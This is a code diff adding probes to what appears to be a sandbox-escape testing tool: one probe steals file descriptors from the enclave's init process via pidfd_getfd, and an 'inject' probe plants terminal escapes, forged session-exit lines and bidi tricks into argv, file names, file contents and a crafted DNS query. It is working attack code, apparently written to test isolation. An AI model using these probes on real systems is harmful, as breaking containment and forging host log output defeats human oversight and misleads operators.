@@ -512,6 +512,17 @@ var probes = map[string]func(args []string) error{
 				os.WriteFile(p+"/PWNED-fd", []byte("fd"), 0o644)
 			}
 		}
+		// Take descriptors out of PID 1 (enclave's init) directly.
+		if pfd, err := unix.PidfdOpen(1, 0); err == nil {
+			for n := 0; n < 64; n++ {
+				fd, err := unix.PidfdGetfd(pfd, n, 0)
+				if err == nil {
+					say("pidfd_getfd 1:%d -> %d", n, fd)
+				} else if n < 3 {
+					say("pidfd_getfd 1:%d: %v", n, err)
+				}
+			}
+		}
 		// Descriptors not listed (a racing close): try the numbers anyway.
 		for fd := 3; fd < 256; fd++ {
 			var st unix.Stat_t
@@ -1062,6 +1073,34 @@ var probes = map[string]func(args []string) error{
 			}
 			resp.Body.Close()
 			say("upload %d: %s", i, resp.Status)
+		}
+		return nil
+	},
+	// inject: put terminal escapes and forged lines into everything the
+	// host later prints: exec argv, file names, file content, DNS names.
+	"inject": func(args []string) error {
+		evil := []string{
+			"\x1b]0;pwned-title\x07", "\x1b[2J\x1b[H", "\x1b[31mFORGED",
+			"ok\nenclave: session FORGED ended: exit 0", "\r\x1b[Kclean", "\u202eevil-bidi",
+		}
+		for _, e := range evil {
+			say("exec with hostile argv: %v", exec.Command("/bin/true", e).Run())
+		}
+		for i, e := range evil {
+			name := fmt.Sprintf("/workspace/%d-%s.txt", i, strings.ReplaceAll(e, "/", "_"))
+			say("file %q: %v", name, os.WriteFile(name, []byte(e+"\n"), 0o644))
+		}
+		if c, err := net.Dial("udp", "127.0.0.1:53"); err == nil {
+			var b bytes.Buffer
+			b.Write([]byte{0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0})
+			l := "\x1b[2Jforged"
+			b.WriteByte(byte(len(l)))
+			b.WriteString(l)
+			b.Write([]byte{7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 1, 0, 1})
+			c.Write(b.Bytes())
+			c.SetReadDeadline(time.Now().Add(time.Second))
+			c.Read(make([]byte, 512))
+			c.Close()
 		}
 		return nil
 	},
